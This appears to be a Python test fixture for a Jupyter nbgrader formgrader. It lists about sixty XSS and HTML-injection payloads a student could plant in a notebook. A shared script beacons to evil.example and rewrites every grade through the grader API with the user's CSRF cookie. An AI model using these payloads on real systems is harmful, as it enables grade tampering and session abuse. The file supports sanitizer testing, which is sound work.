"""What a sly student might write into a notebook: HTML, Markdown and names that act where they are shown."""

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
WORD = "HACKED"  # in the console and in dialogs, where a script runs
JS = (
    f"console.log('{WORD}');alert('{WORD}');fetch('https://evil.example/fetched');"
    "fetch(base_url+'/api/grades?submission_id='+submission_id).then(r=>r.json()).then(all=>all.forEach("
    "one=>fetch(base_url+'/api/grade/'+one.id,{method:'PUT',headers:{'X-CSRFToken':getCookie('_xsrf')},"
    "body:JSON.stringify({manual_score:4})})))"
)
SHORT = f"console.log('{WORD}')"  # for attributes without quotes
FORM = (
    '<form action="/formgrader/api/submitted_notebook/1/flag" method="post">'
    '<input name="manual_score" value="4"><button>Next &rarr;</button></form>'
)
ATTACKS = {
    "script": f"<script>{JS}</script>",
    "script in a paragraph": f"Samples <b>get <ScRiPt >{JS}</sCrIpT > worse",
    "script from elsewhere": '<script src="https://evil.example/a.js"></script>',
    "script of a kind": (
        f'<script type="module">{JS}</script><script type="text/x-mathjax-config">{JS}</script>'
    ),
    "img onerror": f'<img src=x onerror="{JS}">',
    "img onerror without spaces": f'<img/src="x"/onerror="{JS}">',
    "svg onload": f'<svg onload="{JS}"><script>{JS}</script></svg>',
    "details ontoggle": f'<details open ontoggle="{JS}"><summary onclick="{JS}">Why</summary>',
    "focus": f'<a id=x tabindex=1 onfocus="{JS}" autofocus>a</a><b contenteditable onfocus="{JS}">b</b>',
    "mouse": f'<p onmouseover="{JS}" onclick="{JS}" style="position:fixed;inset:0;z-index:9999">over all</p>',
    "media": f'<video src=x onerror="{JS}"></video><audio src=x onerror="{JS}"></audio>',
    "body onload": f'<body onload="{JS}"><marquee onstart="{JS}">x</marquee>',
    "javascript link": f"[why](javascript:{JS}) <javascript:alert('{WORD}')>",
    "javascript link, veiled": (
        f"<a href=\" jav&#x09;ascript:alert('{WORD}')\">a</a> [b](&#106;avascript:alert('{WORD}'))"
    ),
    "javascript behind files/": f"[why](files/javascript:alert('{WORD}'))",
    "javascript by reference": f"[why][1]\n\n[1]: javascript:alert('{WORD}')",
    "data link": (
        f"[why](data:text/html;base64,PHNjcmlwdD4=) <a href='data:text/html,<script>{WORD}</script>'>x</a>"
    ),
    "link to Jupyter": (
        "[a](http://127.0.0.1:8888/formgrader/?path=/tmp) [b](/formgrader/?path=/tmp) [c](//127.0.0.1/)"
    ),
    "iframe": f'<iframe src="javascript:parent.alert(\'{WORD}\')" srcdoc="<script>{JS}</script>"></iframe>',
    "iframe elsewhere": (
        '<iframe src="/formgrader/manage_students"></iframe><iframe src="https://evil.example/"></iframe>'
    ),
    "object": f'<object data="data:text/html,{WORD}"></object><embed src="https://evil.example/"></object>',
    "form": FORM,
    "form around": (
        '<form id="answer-1" action="https://evil.example/"><input type=submit formaction=\'/formgrader\'>'
    ),
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">',
    "base": '<base href="https://evil.example/base/">',
    "link": '<link rel="stylesheet" href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
    "style sheet": (
        '<style>@import "https://evil.example/i.css";body {background: url(https://evil.example/bg)}</style>'
    ),
    "style": '<p style="background:url(https://evil.example/style)">x</p>',
    "remote picture": (
        '![x](https://evil.example/1.png) ![x](//evil.example/3) <img srcset="https://evil.example/2.png 2x">'
    ),
    "own picture": "![x](/formgrader/api/assignments) <img src='../../api/students' lowsrc='/api'>",
    "svg picture": f'![x](data:image/svg+xml;base64,PHN2Zz4=) <img src="data:text/html,{WORD}">',
    "background": (
        '<table background="https://evil.example/t"><td background="https://evil.example/d">x</table>'
    ),
    "picture and source": '<picture><source srcset="https://evil.example/s.png"><img src="data:,"></picture>',
    "attachment": (
        '![x](attachment:a%22%3E%3Cimg%20src=x%20onerror=alert()%3E.png) ![y](<attachment:b"b.png>)'
    ),
    "attachment that is lost": "![x](attachment:lost.png)",
    "clobbering": (
        '<b id="answer-1" name="submission_id" class="score nbgrader_cell">x</b><img name="getElementById">'
    ),
    "gadget": (
        '<a class="tabbable full-credit" data-toggle="modal" data-link="x" data-target="#notebook">Next</a>'
    ),
    "math link": (
        f"$\\href{{javascript:alert('{WORD}')}}{{why}}$ and "
        r"$$\require{html} \style{position:fixed}{x} \cssId{answer-1}{y}$$"
    ),
    "math with HTML": f'$x<img src=x onerror="{JS}">$ \\begin{{a}}<script>{JS}</script>\\end{{a}}',
    "code fence": f'```"><img src=x onerror="{JS}">\n</code></pre><script>{JS}</script>\n```',
    "mermaid": f"```mermaid\n</pre><script>{JS}</script>\n```",
    "table": f'|a|b|\n|-|-|\n|<script>{JS}</script>|<img src=x onerror="{JS}">|',
    "heading": f'# <img src=x onerror="{JS}"> Score: 12 / 12',
    "title": f"[x](https://example.org '\"><script>{JS}</script>') ![x](y '\" onerror=\"{JS}')",
    "end tags": f"</div></div></section></pre></textarea></title></style></script><script>{JS}</script>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={SHORT}>">',
    "noscript and style": f'<noscript><style></noscript><img src=x onerror="{JS}"></style>',
    "math and style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={SHORT}&gt;">'
    ),
    "svg and style": f'<svg></p><style><a id="</style><img src=1 onerror={SHORT}>">',
    "svg and title": f'<svg><title><style><img title="</style><img src=x onerror={SHORT}>">',
    "math and annotation": (
        f'<math><annotation-xml encoding="text/html"><style><img src=x onerror="{JS}"></style>'
    ),
    "comment": f'<!--><img src=x onerror="{JS}">--> <!-- --!><img src=x onerror="{JS}"> -->',
    "cdata": f'<svg><![CDATA[><img src=x onerror="{JS}">]]></svg>',
    "template": (
        f"<template><script>{JS}</script></template>"
        f"<xmp><img title='</xmp><img src=x onerror={SHORT}>'></xmp>"
    ),
    "instruction": f'<?xml ?><!DOCTYPE a [<!ENTITY b "<script>{JS}</script>">]>&b;',
    "characters": f'<scr\0ipt>{JS}</script> <img src="x"\u2028onerror="{JS}"> \u202e<b>',
    "unclosed attribute": '<img src="https://evil.example/leak?',
    "unclosed comment": "<!-- and all below",
    "unclosed text": "<plaintext><textarea><xmp><title><select>",
}
